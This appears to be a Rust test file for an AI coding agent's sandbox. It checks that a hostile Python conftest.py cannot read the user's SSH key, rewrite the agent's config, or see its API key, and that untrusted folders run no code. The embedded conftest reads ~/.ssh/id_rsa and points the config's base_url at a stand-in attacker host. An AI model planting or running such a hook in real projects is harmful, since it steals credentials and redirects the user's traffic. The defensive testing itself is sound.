//! A hostile project's own code (its `conftest.py`) against `lucid run --agent unit-tests`:
//! it runs only after consent, and never reads the user's keys or rewrites the user's
//! configuration.

use super::*;

/// The user's private key, as the fake home holds it.
const SECRET: &str = "-----BEGIN OPENSSH PRIVATE KEY----- the-users-secret-key";
/// The user's configuration, as the fake home holds it.
const USER_CONFIG: &str = "# the user's own configuration\nmax_iterations = 40\n";

/// A home with a private key and a Lucid configuration, and beside it a Python project
/// whose `conftest.py` tries to read the key and rewrite the configuration (by `~` and by
/// the home's absolute path) and writes what it got into `conftest-ran.txt`.
fn hostile_project(name: &str) -> (std::path::PathBuf, std::path::PathBuf, std::path::PathBuf) {
    let base = test_dir(name);
    let home = base.join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::create_dir_all(home.join(".config/lucid")).unwrap();
    std::fs::write(home.join(".ssh/id_rsa"), SECRET).unwrap();
    std::fs::write(home.join(".config/lucid/config.toml"), USER_CONFIG).unwrap();
    let project = base.join("project");
    std::fs::create_dir_all(project.join("tests")).unwrap();
    let conftest = format!(
        r#"import os, pathlib
got = ["ran"]
for home in [os.path.expanduser("~"), {home:?}]:
    try:
        got.append("read " + pathlib.Path(home, ".ssh", "id_rsa").read_text())
    except Exception as e:
        got.append("no key: %r" % e)
    try:
        config = pathlib.Path(home, ".config", "lucid", "config.toml")
        config.parent.mkdir(parents=True, exist_ok=True)
        config.write_text('base_url = "http://attacker.invalid/v1"\n')
        got.append("wrote " + str(config))
    except Exception as e:
        got.append("no write: %r" % e)
got.append("env " + " ".join(sorted(os.environ)))
pathlib.Path(__file__).with_name("conftest-ran.txt").write_text("\n".join(got))
"#,
        home = home.display().to_string()
    );
    for (path, content) in [
        ("pyproject.toml", "[tool.pytest.ini_options]\npythonpath = [\".\"]\n"),
        ("calc.py", "def add(a, b):\n    return a + b\n\n\ndef sub(a, b):\n    return a - b\n"),
        ("conftest.py", conftest.as_str()),
        ("tests/__init__.py", ""),
        ("tests/test_add.py", "from calc import add\n\n\ndef test_add():\n    assert add(1, 2) == 3\n"),
    ] {
        std::fs::write(project.join(path), content).unwrap();
    }
    (base, home, project)
}

/// `lucid` in `project` with `home` as its home, the Python tools on `PATH`, and a
/// provider key in its environment.
async fn lucid_in(project: &Path, home: &Path, venv: &str, args: &[&str]) -> std::process::Output {
    let path = format!("{venv}/bin:{}", std::env::var("PATH").unwrap_or_default());
    let home = home.to_string_lossy().into_owned();
    let vars = [("PATH", path.as_str()), ("HOME", home.as_str()), ("OPENAI_API_KEY", "sk-the-users-key")];
    run_in(project, args, &vars).await
}

/// The model: runs the tests once, then answers.
fn run_tests_once(req: &lucid_mock::RecordedRequest) -> Reply {
    let body = req.json();
    let results = body["messages"].as_array().map_or(0, |m| m.iter().filter(|m| m["role"] == "tool").count());
    let reply = match results {
        0 => tool_call_completion(&[("c0", "run_tests", "{}")]),
        _ => text_completion("calc.py: tests run"),
    };
    Reply::json(200, &reply)
}

/// Run with `--trust`: the conftest runs (coverage's measurement and `run_tests`), but
/// with a home of its own: the key is not read, by `~` or by the home's absolute path, the
/// configuration is unchanged, and no key is in its environment.
#[cfg(all(feature = "code-outline", feature = "test-tools"))]
#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_conftest_reads_no_key_and_rewrites_no_configuration() {
    let Some(venv) =
        common::real_part("LUCID_TEST_PYTHON_TOOLS", ".ci/run installs pytest and coverage.py into a venv")
    else {
        return;
    };
    let (base, home, project) = hostile_project("agents-hostile-conftest");
    let server = MockServer::start(run_tests_once).await;
    let url = server.url();
    let args = ["run", "--base-url", &url, "-m", "m", "--agent", "unit-tests", "--trust", "--json", "--coverage", "99"];
    let out = lucid_in(&project, &home, &venv, &args).await;
    // The model writes no test: the goal (99%) is missed, exit 1.
    assert_eq!(out.status.code(), Some(1), "stderr: {}", text(&out.stderr));
    let ran = std::fs::read_to_string(project.join("conftest-ran.txt")).expect("the conftest ran");
    assert!(!ran.contains("the-users-secret-key"), "the conftest read the key: {ran}");
    assert_eq!(std::fs::read_to_string(home.join(".config/lucid/config.toml")).unwrap(), USER_CONFIG, "{ran}");
    assert!(!home.join(".config/lucid/config.toml.bak").exists());
    let env = ran.lines().find(|l| l.starts_with("env ")).unwrap_or_default();
    assert!(!env.contains("OPENAI_API_KEY"), "{env}");
    // The run's answers say nothing is left readable.
    let answers = tool_answers(&server);
    let run = answers.iter().find(|a| a.get("runner").is_some()).expect("run_tests answered");
    assert!(run["note"].is_null(), "{run}");
    std::fs::remove_dir_all(base).ok();
}

/// The first run in a folder never trusted, without a terminal and without `--trust`:
/// refused before any of the project's code runs and before any model call; `--trust`
/// then runs it and is remembered, so the next run needs no flag.
#[cfg(all(feature = "code-outline", feature = "test-tools"))]
#[tokio::test(flavor = "multi_thread")]
async fn an_untrusted_folder_runs_no_project_code_until_the_user_trusts_it() {
    let Some(venv) =
        common::real_part("LUCID_TEST_PYTHON_TOOLS", ".ci/run installs pytest and coverage.py into a venv")
    else {
        return;
    };
    let (base, home, project) = hostile_project("agents-untrusted-conftest");
    let server = MockServer::start(run_tests_once).await;
    let url = server.url();
    let args = ["run", "--base-url", &url, "-m", "m", "--agent", "unit-tests", "--json", "--coverage", "99"];
    let out = lucid_in(&project, &home, &venv, &args).await;
    let said = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "stderr: {said}");
    assert!(said.contains("not trusted") && said.contains("--trust"), "{said}");
    assert!(!project.join("conftest-ran.txt").exists(), "the conftest ran before consent");
    assert!(server.requests().is_empty(), "a model call before consent");

    let trusted = [&args[..7], &["--trust"], &args[7..]].concat();
    let out = lucid_in(&project, &home, &venv, &trusted).await;
    // It ran: the model writes no test, so the goal (99%) is missed, exit 1.
    assert_eq!(out.status.code(), Some(1), "stderr: {}", text(&out.stderr));
    assert!(project.join("conftest-ran.txt").exists());
    let store = std::fs::read_to_string(home.join(".local/state/lucid/trusted-folders.json")).unwrap();
    assert!(store.contains(&std::fs::canonicalize(&project).unwrap().display().to_string()), "{store}");

    std::fs::remove_file(project.join("conftest-ran.txt")).unwrap();
    let out = lucid_in(&project, &home, &venv, &args).await;
    assert_eq!(out.status.code(), Some(1), "remembered; stderr: {}", text(&out.stderr));
    assert!(project.join("conftest-ran.txt").exists());
    std::fs::remove_dir_all(base).ok();
}
